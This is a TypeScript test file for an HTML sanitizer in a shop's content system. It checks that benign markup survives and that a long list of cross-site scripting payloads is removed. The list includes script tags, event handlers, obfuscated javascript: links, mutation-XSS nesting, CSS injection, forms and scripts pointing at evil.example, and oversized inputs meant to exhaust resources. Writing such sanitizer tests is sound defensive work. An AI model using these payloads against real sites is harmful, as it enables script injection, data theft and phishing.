import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { cleanHtml } from './clean-html.ts'

const HARMLESS = new Set(
  'p div section blockquote pre h2 h3 h4 h5 h6 ul ol li dl dt dd figure figcaption hr table caption thead tbody tfoot tr th td a abbr b bdi bdo br cite code del em i img ins kbd mark q s small span strong sub sup time u wbr'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'href target rel src alt width height loading style lang dir title start type reversed value colspan rowspan scope datetime'.split(
    ' ',
  ),
)

/** Lists what a browser could execute or load in the HTML. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!HARMLESS.has(name)) dangers.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) dangers.push(attribute)
        if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:|\/(?![/\\])|#|\?)/i.test(value))
          dangers.push(value)
        if (attribute === 'src' && !/^\/media\/[a-z0-9._-]+$/.test(value)) dangers.push(value)
        if (attribute === 'style' && /url|expression|position|z-index|@|\\|\/\*|var\(|fixed/i.test(value))
          dangers.push(value)
      }
    },
    oncomment: () => dangers.push('a comment'),
    onprocessinginstruction: (name) => dangers.push(name),
  })
  parser.end(html)
  return dangers
}

describe('harmless HTML of a manager is kept', () => {
  test.each([
    '<h2>Felt</h2><p>Wool, <strong>water</strong> and <em>hands</em>.</p>',
    '<ul><li>one</li><li>two</li></ul>',
    '<ol start="3"><li value="5">five</li></ol>',
    '<table><thead><tr><th scope="col">Size</th></tr></thead><tbody><tr><td colspan="2">38</td></tr></tbody></table>',
    '<p style="text-align:center;color:#a3302b">Кийиз</p>',
    '<a href="/pages/delivery">Жеткирүү</a>',
    '<a href="mailto:shop@shyrdak.example">Write to us</a>',
    '<a href="tel:+996700123456">+996 700 123 456</a>',
    '<img src="/media/wool.jpg" alt="Wool" width="640" height="480" loading="lazy" />',
    '<p lang="ky">Ак калпак</p>',
    'Tom &amp; Jerry &lt;3',
  ])('%s', (html) => {
    expect(cleanHtml(html)).toBe(html)
  })

  test('a link to another site opens in a new tab without opener or referrer', () => {
    expect(cleanHtml('<a href="https://elsewhere.example/" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://elsewhere.example/" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    )
    expect(cleanHtml('<a href="/about" target="_blank">x</a>')).toBe('<a href="/about">x</a>')
  })

  test('a first-level heading becomes a second-level one', () => {
    expect(cleanHtml('<h1>Felt</h1>')).toBe('<h2>Felt</h2>')
  })
})

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="/media/a.jpg" onload="alert(1)">',
  '<img src="https://evil.example/pixel.png">',
  '<img src="//evil.example/pixel.png">',
  '<img src="/media/../admin">',
  '<img srcset="https://evil.example/a.png 1x" src="/media/a.jpg">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>@import "https://evil.example/a.css"</style>',
  '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="blob:https://shop.example/1">x</a>',
  '<a href="/x" ping="https://evil.example">x</a>',
  '<a href="/x" onclick="alert(1)" onfocus=alert(1) autofocus tabindex=0>x</a>',
  '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
  '<p style="background:url(https://evil.example/a.png)">x</p>',
  '<p style="background-color:u\\72l(https://evil.example)">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="color:red;/*">x</p>',
  '<p style="width:9999999px">x</p>',
  '<p style="--x:1;color:var(--x)">x</p>',
  '<p class="shyrdak-dialog" id="cart" data-shyrdak-island="x">x</p>',
  '<div contenteditable onbeforeinput=alert(1)>x</div>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<video poster=https://evil.example/a.png src=https://evil.example/a.mp4 autoplay></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style></select><img src=x onerror=alert(1)></style></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "x" ?><?xml-stylesheet href="javascript:alert(1)"?>',
  '<p/onmouseover=alert(1)>x</p>',
  '<p title="a" onmouseover="alert(1)" title="b">x</p>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p title=`><script>alert(1)</script>`>x</p>',
  '<x-widget onclick=alert(1)>x</x-widget>',
  '<shyrdak-cart></shyrdak-cart>',
  '<a href="https://evil.example/?<script>alert(1)</script>">x</a>',
  '<frameset><frame src=javascript:alert(1)></frameset>',
  '<body onload=alert(1)><html onload=alert(1)>',
  '<img src=/media/a.jpg usemap="#m"><map name=m><area href="javascript:alert(1)"></map>',
  '<td background="javascript:alert(1)">x</td>',
  '<q cite="javascript:alert(1)">x</q>',
  '<p is="x-widget" slot="a" part="b">x</p>',
  '<\u0000script>alert(1)</script>',
  '<script\u2028>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
]

describe('dangerous HTML is removed', () => {
  test.each(PAYLOADS)('%s', (html) => {
    expect(dangersIn(cleanHtml(html))).toEqual([])
    for (const wrapped of [
      `<p>${html}`,
      `<table><tr><td>${html}`,
      `<a href="/x">${html}</a>`,
      `"'><b>${html}`,
    ])
      expect(dangersIn(cleanHtml(wrapped))).toEqual([])
  })

  const piece = fc.oneof(
    fc.constantFrom(...PAYLOADS),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '`',
      '&',
      '=',
      '/',
      '<!--',
      '-->',
      '</',
      '<p ',
      '<a href=',
      'style=',
      '\0',
    ),
    fc.string({ maxLength: 8 }),
  )

  test('from any combination of payloads', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (items) => {
        expect(dangersIn(cleanHtml(items.join('')))).toEqual([])
      }),
      { numRuns: 1_000 },
    )
  })

  test('and cleaning again changes nothing', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (items) => {
        const clean = cleanHtml(items.join(''))
        expect(cleanHtml(clean)).toBe(clean)
      }),
      { numRuns: 1_000 },
    )
  })
})

describe('HTML made to exhaust the store', () => {
  test.each([
    ['tags in tags', '<div>'.repeat(200_000)],
    ['brackets', '<'.repeat(1_000_000)],
    ['links that never end', '<a href="'.repeat(100_000)],
    ['a style of brackets', `<p style="${'('.repeat(500_000)}">`],
    ['a style of many colours', `<p style="${'color:red;'.repeat(50_000)}">x</p>`],
    ['comments in comments', '<!--'.repeat(200_000)],
    ['tags that nobody knows', '<felt>'.repeat(100_000)],
  ])('of %s is cleaned in time', (_what, html) => {
    expect(dangersIn(cleanHtml(html))).toEqual([])
  })

  test.each([null, undefined, 5, {}, ['<b>']])('%j becomes an empty text', (value) => {
    expect(cleanHtml(value)).toBe('')
  })
})
